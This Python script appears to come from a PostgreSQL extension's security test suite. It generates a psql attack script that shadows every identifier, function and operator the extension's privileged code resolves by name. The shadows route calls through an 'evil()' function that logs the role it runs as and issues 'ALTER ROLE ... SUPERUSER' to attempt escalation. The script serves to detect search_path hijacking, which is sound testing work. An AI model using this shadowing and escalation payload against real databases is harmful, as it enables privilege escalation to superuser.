#!/usr/bin/env python3
"""Every identifier privileged code may resolve by name, taken from the code.

Reads the SQL text of the extension -- the string literals of src/*.c that
look like SQL or are a bare name (what C code may hand to a name lookup),
and sql/src/*.sql whole (function bodies, EXECUTE strings, DECLARE
sections) -- and writes a psql script that, run in an attacker's own
session, plants a shadow for every name:

  * a name used as a type (after ::, in a DECLARE section, after %TYPE, in a
    CAST ... AS) or any name that is a type in pg_catalog:
        CREATE DOMAIN pg_temp.<name> AS pg_catalog.<name> CHECK (pg_temp.evil(VALUE))
    (base pg_catalog.text when the pg_catalog type is a pseudo-type or absent);
  * every other name: CREATE TEMP VIEW pg_temp.<name> AS SELECT pg_temp.evil();
  * every name used as a function: in the attacker's schema (first on the
    attacker's search_path) a wrapper with each of pg_catalog's signatures of
    that name that calls pg_temp.evil() and then the real function (aggregates
    with a plain transition type get a wrapper aggregate);
  * every operator symbol used: a wrapper operator for each of pg_catalog's
    operators of that name.

It errs on the side of too many names: every word of every SQL-looking
literal counts, not only the ones in a type or relation position, so a name
added to the code later cannot escape the test.  Which names are types is
decided at run time against pg_catalog.  Reserved keywords are skipped (they
are not identifiers unquoted).

Usage: gen_names.py ROOT OUT.sql  (also prints a one-line summary)
"""
import os
import re
import sys

ROOT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(__file__), '..', '..')
OUT = sys.argv[2] if len(sys.argv) > 2 else '-'

SQL_HINT = re.compile(r'\b(SELECT|INSERT|UPDATE|DELETE|FROM|WHERE|VALUES|RETURNING|JOIN|LIMIT|'
                      r'ORDER BY|GROUP BY|ON CONFLICT|SET|OPERATOR|LATERAL|UNNEST|COALESCE)\b|::|pg_catalog\.')
WORD = re.compile(r'[A-Za-z_][A-Za-z0-9_$]*')


def c_literals(text):
    """The string literals of a C file, adjacent ones joined, comments removed."""
    out = []
    i, n = 0, len(text)
    cur = None          # literal being joined
    while i < n:
        c = text[i]
        if text.startswith('/*', i):
            j = text.find('*/', i + 2)
            i = n if j < 0 else j + 2
            continue
        if text.startswith('//', i):
            j = text.find('\n', i)
            i = n if j < 0 else j + 1
            continue
        if c == "'":     # char literal
            m = re.match(r"'(\\.|[^\\'])*'", text[i:])
            i += len(m.group(0)) if m else 1
            if cur is not None:
                out.append(cur); cur = None
            continue
        if c == '"':
            j = i + 1
            buf = []
            while j < n and text[j] != '"':
                if text[j] == '\\' and j + 1 < n:
                    esc = text[j + 1]
                    buf.append({'n': ' ', 't': ' ', '"': '"', '\\': '\\'}.get(esc, ' '))
                    j += 2
                else:
                    buf.append(text[j]); j += 1
            s = ''.join(buf)
            cur = s if cur is None else cur + s
            i = j + 1
            continue
        if c.isspace():
            i += 1
            continue
        if cur is not None:
            out.append(cur); cur = None
        i += 1
    if cur is not None:
        out.append(cur)
    return out


def strip_sql_comments(text):
    return re.sub(r'--[^\n]*', ' ', text)


def strip_format_specs(s):
    # printf conversions (%s, %d, %.63s, %%) and SQL format() ones (%I, %L, %s)
    return re.sub(r'%(?:[-+ #0]*[0-9]*(?:\.[0-9]+)?(?:l|ll|z|h)?[a-zA-Z%])', ' ', s)


REL_KW = ('from', 'join', 'into', 'update', 'table', 'using', 'only', 'truncate', 'exists')


def analyse(sql, names, types, funcs, ops, rels):
    # x%TYPE / x%ROWTYPE (PL/pgSQL): before the printf conversions go
    for m in re.finditer(r'([A-Za-z_][A-Za-z0-9_.]*)\s*%\s*(ROW)?TYPE', sql, re.I):
        for part in m.group(1).split('.'):
            types.add(part.lower())
    sql = strip_format_specs(sql)
    toks = [m.group(0) for m in re.finditer(
        r'"(?:[^"]|"")+"|[A-Za-z_][A-Za-z0-9_$]*|::|\$[0-9]+|[0-9]+(?:\.[0-9]+)?|'
        r'[-+*/<>=~!@#%^&|`?]+|\S', sql)]

    def name(t):
        if t.startswith('"'):
            # a quoted identifier; quoted message text ("%s", "kizunasync: ...") is not one
            nm = t[1:-1].replace('""', '"')
            return nm if re.fullmatch(r'[A-Za-z_][A-Za-z0-9_$]{0,62}', nm) else None
        return t.lower() if WORD.fullmatch(t) else None

    for k, t in enumerate(toks):
        nm = name(t)
        if nm is not None:
            names.add(nm)
            nxt = toks[k + 1] if k + 1 < len(toks) else ''
            # function call: name ( -- also the last part of a.b(
            if nxt == '(':
                funcs.add(nm)
            # relation position
            prev = toks[k - 1].lower() if k else ''
            if prev in REL_KW and nxt != '(':
                rels.add(nm)
            if prev == 'as' and k >= 2 and '(' in toks[max(0, k - 8):k] and 'cast' in [x.lower() for x in toks[max(0, k - 8):k]]:
                types.add(nm)
            continue
        if t == '::':
            # ::name, ::schema.name, ::name[]
            j = k + 1
            while j < len(toks):
                nm2 = name(toks[j])
                if nm2 is None:
                    break
                types.add(nm2)
                if j + 1 < len(toks) and toks[j + 1] == '.':
                    j += 2
                    continue
                break
            continue
        if re.fullmatch(r'[-+*/<>=~!@#%^&|`?]+', t):
            # a multi-character token may glue an operator to a sign; keep it
            ops.add(t)


def plpgsql_declare_types(sql, types):
    """Type names of DECLARE sections: 'v_name   some.type ...;'."""
    for blk in re.finditer(r'\bDECLARE\b(.*?)\bBEGIN\b', sql, re.S | re.I):
        for line in blk.group(1).split(';'):
            line = line.strip()
            m = re.match(r'("?[A-Za-z_][A-Za-z0-9_]*"?)\s+(?:CONSTANT\s+)?([A-Za-z_][A-Za-z0-9_.]*)', line, re.I)
            if m:
                for part in m.group(2).split('.'):
                    types.add(part.lower())


def main():
    names, types, funcs, ops, rels = set(), set(), set(), set(), set()
    src = os.path.join(ROOT, 'src')
    sqlsrc = os.path.join(ROOT, 'sql', 'src')
    nlit = 0
    for f in sorted(os.listdir(src)):
        if not f.endswith('.c'):
            continue
        with open(os.path.join(src, f), encoding='utf-8') as fh:
            for lit in c_literals(fh.read()):
                if SQL_HINT.search(lit):
                    nlit += 1
                    analyse(lit, names, types, funcs, ops, rels)
                elif re.fullmatch(r'[A-Za-z_][A-Za-z0-9_]{0,62}', lit):
                    # a bare name in C (makeString("send"), a type or
                    # relation looked up by name): may reach a name lookup
                    nlit += 1
                    names.update({lit, lit.lower()})
    nfiles = 0
    for f in sorted(os.listdir(sqlsrc)):
        if not f.endswith('.sql'):
            continue
        nfiles += 1
        with open(os.path.join(sqlsrc, f), encoding='utf-8') as fh:
            body = strip_sql_comments(fh.read())
        # dollar quotes and single quotes are code too (EXECUTE format(...))
        flat = re.sub(r'\$[A-Za-z_]*\$', ' ', body).replace("''", "'").replace("'", ' ')
        analyse(flat, names, types, funcs, ops, rels)
        plpgsql_declare_types(flat, types)
    # operators never come from the C printf conversions or from psql
    ops = {o for o in ops if o not in ('%', '\\')}
    # the attack needs evil(); it is defined by the header, never shadowed
    for s in (names, types, funcs, rels):
        s.discard('evil')

    def arr(xs):
        return 'ARRAY[' + ', '.join("'" + x.replace("'", "''") + "'" for x in sorted(xs)) + ']::pg_catalog.text[]' \
            if xs else "'{}'::pg_catalog.text[]"

    body = HEADER + TEMPLATE.replace('@NAMES@', arr(names)).replace('@TYPES@', arr(types)) \
        .replace('@FUNCS@', arr(funcs)).replace('@OPS@', arr(ops))
    if OUT == '-':
        sys.stdout.write(body)
    else:
        with open(OUT, 'w', encoding='utf-8') as fh:
            fh.write(body)
    print(f'gen_names: {nlit} SQL literals in src/*.c, {nfiles} files in sql/src: '
          f'{len(names)} names ({len(types)} in type positions, {len(rels)} in relation positions), '
          f'{len(funcs)} function names, {len(ops)} operators', file=sys.stderr)


HEADER = r"""-- GENERATED by test/roles/gen_names.py from src/*.c and sql/src/*.sql; do not edit.
-- Run in an attacker's own session (psql \i).  The attacker must own schema
-- kzatk_<session_user> (its log table "seen" and non-transactional counter
-- "bad" live there).  Leaves the attacker's search_path as
-- kzatk_<session_user>, public, so its wrappers come first.
\set ON_ERROR_STOP 1
SET client_min_messages = warning;
-- the log: who evil() ran as, per action (kzt.action, set before each one)
SELECT pg_catalog.format('CREATE TABLE %I.seen (action pg_catalog.text, cu pg_catalog.name, su pg_catalog.name, super pg_catalog.bool, bad pg_catalog.bool, escalated pg_catalog.bool, ctx pg_catalog.text, at pg_catalog.timestamptz DEFAULT pg_catalog.clock_timestamp())', 'kzatk_' OPERATOR(pg_catalog.||) session_user) AS ddl \gset
:ddl;
SELECT pg_catalog.format('CREATE SEQUENCE %I.bad', 'kzatk_' OPERATOR(pg_catalog.||) session_user) AS ddl \gset
:ddl;
SELECT pg_catalog.format('GRANT USAGE ON SCHEMA %1$I TO PUBLIC; GRANT INSERT, SELECT ON %1$I.seen TO PUBLIC; GRANT USAGE, SELECT, UPDATE ON SEQUENCE %1$I.bad TO PUBLIC', 'kzatk_' OPERATOR(pg_catalog.||) session_user) AS ddl \gset
:ddl;

-- evil(): records current_user and session_user, and whether current_user
-- is a superuser or the extension owner ("bad": privileged code ran the
-- attacker's code with rights the attacker does not have); bumps the
-- non-transactional counter on bad (it survives a rollback of the statement);
-- tries to make the attacker superuser.  Never raises, always true.
CREATE FUNCTION pg_temp.evil() RETURNS pg_catalog.bool LANGUAGE plpgsql VOLATILE
SET search_path = pg_catalog, pg_temp AS $evil$
DECLARE
	sch pg_catalog.text := 'kzatk_' || session_user;
	is_super pg_catalog.bool;
	is_bad pg_catalog.bool;
	esc pg_catalog.bool := false;
	act pg_catalog.text := COALESCE(pg_catalog.current_setting('kzt.action', true), '');
	stack pg_catalog.text;
	site pg_catalog.text;
BEGIN
	-- where it was called from: the statements on the stack, evil's own
	-- frames and the shadows' wrappers left out
	GET DIAGNOSTICS stack = PG_CONTEXT;
	SELECT pg_catalog.string_agg(l, ' <- ') INTO site
	  FROM pg_catalog.regexp_split_to_table(stack, E'\n') l
	 WHERE l !~ 'evil\(|^SQL function "_kz|^SQL function "[a-z_]+" statement 1$';
	SELECT r.rolsuper INTO is_super FROM pg_catalog.pg_roles r WHERE r.rolname = current_user;
	is_bad := COALESCE(is_super, false)
		OR current_user = (SELECT e.extowner::pg_catalog.regrole::pg_catalog.name FROM pg_catalog.pg_extension e WHERE e.extname = 'kizunasync');
	IF is_bad THEN
		BEGIN
			PERFORM pg_catalog.nextval(pg_catalog.format('%I.bad', sch)::pg_catalog.regclass);
		EXCEPTION WHEN OTHERS THEN
			RAISE WARNING 'KZ-EVIL-UNRECORDED: %', SQLERRM;
		END;
		RAISE WARNING 'KZ-EVIL-BAD action=% current_user=% session_user=% called from: %', act, current_user, session_user, site;
	END IF;
	BEGIN
		EXECUTE pg_catalog.format('SELECT NOT EXISTS (SELECT 1 FROM %I.seen s WHERE s.action = $1 AND s.cu = $2 AND s.ctx IS NOT DISTINCT FROM $3)', sch)
			INTO esc USING act, current_user, site;
		IF esc THEN		-- first time here in this action as this role: log, try to escalate
			esc := false;
			BEGIN
				EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', session_user);
				esc := true;
			EXCEPTION WHEN OTHERS THEN
				NULL;
			END;
			EXECUTE pg_catalog.format('INSERT INTO %I.seen (action, cu, su, super, bad, escalated, ctx) VALUES ($1, $2, $3, $4, $5, $6, $7)', sch)
				USING act, current_user, session_user, is_super, is_bad, esc, site;
		END IF;
	EXCEPTION WHEN OTHERS THEN
		RAISE WARNING 'KZ-EVIL-LOG-FAILED: % (current_user %)', SQLERRM, current_user;
	END;
	RETURN true;
END
$evil$;
CREATE FUNCTION pg_temp.evil(anyelement) RETURNS pg_catalog.bool LANGUAGE sql VOLATILE
AS $$ SELECT pg_temp.evil() $$;
"""

TEMPLATE = r"""
-- the shadows; counts go to kzt.shadow_counts for the report
DO $gen$
DECLARE
	names pg_catalog.text[] := @NAMES@;
	typepos pg_catalog.text[] := @TYPES@;
	funcs pg_catalog.text[] := @FUNCS@;
	opers pg_catalog.text[] := @OPS@;
	sch pg_catalog.text := 'kzatk_' OPERATOR(pg_catalog.||) session_user;
	n pg_catalog.text;
	base pg_catalog.text;
	p pg_catalog.record;
	nd pg_catalog.int4 := 0; nv pg_catalog.int4 := 0; nf pg_catalog.int4 := 0;
	na pg_catalog.int4 := 0; no pg_catalog.int4 := 0; nskip pg_catalog.int4 := 0; nerr pg_catalog.int4 := 0;
	args pg_catalog.text;
	callargs pg_catalog.text;
	body pg_catalog.text;
	unusable pg_catalog.oid[];	-- types no SQL function can take or return
BEGIN
	SELECT pg_catalog.array_agg(t.oid) INTO unusable FROM pg_catalog.pg_type t
	 WHERE t.typnamespace OPERATOR(pg_catalog.=) 11
	   AND t.typname OPERATOR(pg_catalog.=) ANY ('{any,internal,cstring,trigger,event_trigger,language_handler,fdw_handler,index_am_handler,table_am_handler,tsm_handler}'::pg_catalog.name[]);
	-- 1. types and relations in pg_temp
	FOREACH n IN ARRAY names LOOP
		IF EXISTS (SELECT 1 FROM pg_catalog.pg_get_keywords() k WHERE k.word OPERATOR(pg_catalog.=) n AND k.catcode OPERATOR(pg_catalog.=) 'R') THEN
			nskip := nskip OPERATOR(pg_catalog.+) 1;
			CONTINUE;
		END IF;
		SELECT CASE WHEN t.typtype OPERATOR(pg_catalog.=) 'p' THEN 'pg_catalog.text'
					ELSE pg_catalog.format('pg_catalog.%I', t.typname) END
		  INTO base
		  FROM pg_catalog.pg_type t
		 WHERE t.typnamespace OPERATOR(pg_catalog.=) 11 AND t.typname OPERATOR(pg_catalog.=) n::pg_catalog.name;
		IF base IS NULL AND n OPERATOR(pg_catalog.=) ANY (typepos) THEN
			base := 'pg_catalog.text';
		END IF;
		BEGIN
			IF base IS NOT NULL THEN
				EXECUTE pg_catalog.format('CREATE DOMAIN pg_temp.%I AS %s CHECK (pg_temp.evil(VALUE))', n, base);
				nd := nd OPERATOR(pg_catalog.+) 1;
			ELSE
				EXECUTE pg_catalog.format('CREATE TEMP VIEW %I AS SELECT pg_temp.evil() AS evil', n);
				nv := nv OPERATOR(pg_catalog.+) 1;
			END IF;
		EXCEPTION WHEN OTHERS THEN
			BEGIN	-- e.g. a base type a domain cannot have: a text domain then
				EXECUTE pg_catalog.format('CREATE DOMAIN pg_temp.%I AS pg_catalog.text CHECK (pg_temp.evil(VALUE))', n);
				nd := nd OPERATOR(pg_catalog.+) 1;
			EXCEPTION WHEN OTHERS THEN
				nerr := nerr OPERATOR(pg_catalog.+) 1;
				RAISE NOTICE 'shadow % not created: %', n, SQLERRM;
			END;
		END;
	END LOOP;

	-- 2. functions: a wrapper per pg_catalog signature of every name called
	FOR p IN
		SELECT f.oid, f.proname, f.proretset, f.prokind, f.provariadic, f.pronargs,
			   f.proallargtypes IS NOT NULL AS has_out
		  FROM pg_catalog.pg_proc f
		 WHERE f.pronamespace OPERATOR(pg_catalog.=) 11
		   AND f.proname OPERATOR(pg_catalog.=) ANY (funcs::pg_catalog.name[])
		   AND f.prokind OPERATOR(pg_catalog.=) ANY ('{f,a}'::pg_catalog."char"[])
		   AND NOT EXISTS (SELECT 1 FROM pg_catalog.unnest(f.proargtypes::pg_catalog.oid[] OPERATOR(pg_catalog.||) f.prorettype) a(t)
						   WHERE a.t OPERATOR(pg_catalog.=) ANY (unusable)
							 AND NOT (a.t OPERATOR(pg_catalog.=) 2276 AND f.prokind OPERATOR(pg_catalog.=) 'f'))	-- "any" becomes text
		 ORDER BY f.oid
	LOOP
		BEGIN
			IF p.prokind OPERATOR(pg_catalog.=) 'a' THEN
				-- a wrapper aggregate around the same transition function
				SELECT pg_catalog.format(
						 'CREATE FUNCTION %1$I._kzsf_%2$s(%3$s%4$s) RETURNS %5$s LANGUAGE sql VOLATILE %6$s AS %7$L; '
						 'CREATE AGGREGATE %1$I.%8$I(%9$s) (SFUNC = %1$I._kzsf_%2$s, STYPE = %5$s%10$s%11$s)',
						 sch, p.oid, ag.aggtranstype::pg_catalog.regtype,
						 (SELECT pg_catalog.string_agg(', ' OPERATOR(pg_catalog.||) t::pg_catalog.regtype::pg_catalog.text, '' ORDER BY o)
							FROM pg_catalog.unnest(f.proargtypes::pg_catalog.oid[]) WITH ORDINALITY u(t, o)),
						 ag.aggtranstype::pg_catalog.regtype,
						 CASE WHEN tf.proisstrict THEN 'STRICT' ELSE '' END,
						 pg_catalog.format('SELECT CASE WHEN pg_temp.evil() THEN %s(%s) END', ag.aggtransfn::pg_catalog.regproc,
							(SELECT pg_catalog.string_agg('$' OPERATOR(pg_catalog.||) i, ', ' ORDER BY i) FROM pg_catalog.generate_series(1, f.pronargs OPERATOR(pg_catalog.+) 1) i)),
						 p.proname,
						 CASE WHEN f.pronargs OPERATOR(pg_catalog.=) 0 THEN '*' ELSE
							(SELECT pg_catalog.string_agg(t::pg_catalog.regtype::pg_catalog.text, ', ' ORDER BY o)
							   FROM pg_catalog.unnest(f.proargtypes::pg_catalog.oid[]) WITH ORDINALITY u(t, o)) END,
						 CASE WHEN ag.agginitval IS NULL THEN '' ELSE pg_catalog.format(', INITCOND = %L', ag.agginitval) END,
						 CASE WHEN ag.aggfinalfn OPERATOR(pg_catalog.=) 0 THEN '' ELSE pg_catalog.format(', FINALFUNC = %s', ag.aggfinalfn::pg_catalog.regproc) END)
				  INTO body
				  FROM pg_catalog.pg_aggregate ag JOIN pg_catalog.pg_proc f ON f.oid OPERATOR(pg_catalog.=) ag.aggfnoid
				  JOIN pg_catalog.pg_proc tf ON tf.oid OPERATOR(pg_catalog.=) ag.aggtransfn
				 WHERE ag.aggfnoid OPERATOR(pg_catalog.=) p.oid AND ag.aggkind OPERATOR(pg_catalog.=) 'n'
				   AND ag.aggtranstype OPERATOR(pg_catalog.<>) ALL (unusable)
				   AND (ag.aggfinalfn OPERATOR(pg_catalog.=) 0 OR ag.aggfinalextra IS FALSE);
				IF body IS NULL THEN
					nskip := nskip OPERATOR(pg_catalog.+) 1;
					CONTINUE;
				END IF;
				EXECUTE body;
				na := na OPERATOR(pg_catalog.+) 1;
				CONTINUE;
			END IF;
			-- "any" (format, jsonb_build_object, ...) becomes text: a text
			-- argument then matches the wrapper exactly
			args := pg_catalog.replace(pg_catalog.replace(pg_catalog.pg_get_function_arguments(p.oid),
						'VARIADIC "any"', 'VARIADIC pg_catalog.text[]'), '"any"', 'pg_catalog.text');
			SELECT pg_catalog.string_agg(
					 CASE WHEN p.provariadic OPERATOR(pg_catalog.<>) 0 AND i OPERATOR(pg_catalog.=) p.pronargs THEN 'VARIADIC ' ELSE '' END
					 OPERATOR(pg_catalog.||) '$' OPERATOR(pg_catalog.||) i, ', ' ORDER BY i)
			  INTO callargs FROM pg_catalog.generate_series(1, p.pronargs) i;
			body := CASE WHEN p.proretset OR p.has_out
						 THEN pg_catalog.format('SELECT * FROM pg_catalog.%I(%s) WHERE pg_temp.evil()', p.proname, COALESCE(callargs, ''))
						 ELSE pg_catalog.format('SELECT CASE WHEN pg_temp.evil() THEN pg_catalog.%I(%s) END', p.proname, COALESCE(callargs, '')) END;
			EXECUTE pg_catalog.format('CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE sql VOLATILE AS %L',
				sch, p.proname, args, pg_catalog.pg_get_function_result(p.oid), body);
			nf := nf OPERATOR(pg_catalog.+) 1;
		EXCEPTION WHEN OTHERS THEN
			nerr := nerr OPERATOR(pg_catalog.+) 1;
			RAISE NOTICE 'function shadow %(%) not created: %', p.proname, pg_catalog.pg_get_function_identity_arguments(p.oid), SQLERRM;
		END;
	END LOOP;

	-- 3. operators: a wrapper per pg_catalog operator of every symbol used
	FOR p IN
		SELECT o.oid, o.oprname, o.oprkind, o.oprleft, o.oprright, o.oprresult
		  FROM pg_catalog.pg_operator o
		 WHERE o.oprnamespace OPERATOR(pg_catalog.=) 11 AND o.oprname OPERATOR(pg_catalog.=) ANY (opers::pg_catalog.name[])
		   AND o.oprcode OPERATOR(pg_catalog.<>) 0
		   AND NOT EXISTS (SELECT 1 FROM pg_catalog.unnest(ARRAY[o.oprleft, o.oprright, o.oprresult]) a(t)
						   WHERE a.t OPERATOR(pg_catalog.=) ANY (unusable))
		 ORDER BY o.oid
	LOOP
		BEGIN
			IF p.oprkind OPERATOR(pg_catalog.=) 'b' THEN
				EXECUTE pg_catalog.format(
					'CREATE FUNCTION %1$I._kzop_%2$s(%3$s, %4$s) RETURNS %5$s LANGUAGE sql VOLATILE AS %6$L; '
					'CREATE OPERATOR %1$I.%7$s (LEFTARG = %3$s, RIGHTARG = %4$s, FUNCTION = %1$I._kzop_%2$s)',
					sch, p.oid, p.oprleft::pg_catalog.regtype, p.oprright::pg_catalog.regtype, p.oprresult::pg_catalog.regtype,
					pg_catalog.format('SELECT CASE WHEN pg_temp.evil() THEN $1 OPERATOR(pg_catalog.%s) $2 END', p.oprname), p.oprname);
			ELSE
				EXECUTE pg_catalog.format(
					'CREATE FUNCTION %1$I._kzop_%2$s(%3$s) RETURNS %4$s LANGUAGE sql VOLATILE AS %5$L; '
					'CREATE OPERATOR %1$I.%6$s (RIGHTARG = %3$s, FUNCTION = %1$I._kzop_%2$s)',
					sch, p.oid, p.oprright::pg_catalog.regtype, p.oprresult::pg_catalog.regtype,
					pg_catalog.format('SELECT CASE WHEN pg_temp.evil() THEN OPERATOR(pg_catalog.%s) $1 END', p.oprname), p.oprname);
			END IF;
			no := no OPERATOR(pg_catalog.+) 1;
		EXCEPTION WHEN OTHERS THEN
			nerr := nerr OPERATOR(pg_catalog.+) 1;
			RAISE NOTICE 'operator shadow % (%, %) not created: %', p.oprname, p.oprleft::pg_catalog.regtype, p.oprright::pg_catalog.regtype, SQLERRM;
		END;
	END LOOP;
	PERFORM pg_catalog.set_config('kzt.shadow_counts',
		pg_catalog.format('%s names: %s pg_temp domains, %s pg_temp views, %s functions, %s aggregates, %s operators in %s; %s reserved words or unwrappable aggregates skipped, %s not created',
			pg_catalog.cardinality(names), nd, nv, nf, na, no, sch, nskip, nerr), false);
END
$gen$;
SELECT pg_catalog.current_setting('kzt.shadow_counts') AS shadow_counts \gset
\echo '# shadows:' :shadow_counts
SELECT pg_catalog.set_config('search_path', pg_catalog.format('%I, public', 'kzatk_' OPERATOR(pg_catalog.||) session_user), false) IS NULL AS no \gset kz_
RESET client_min_messages;
\set ON_ERROR_STOP 0
"""

if __name__ == '__main__':
    main()
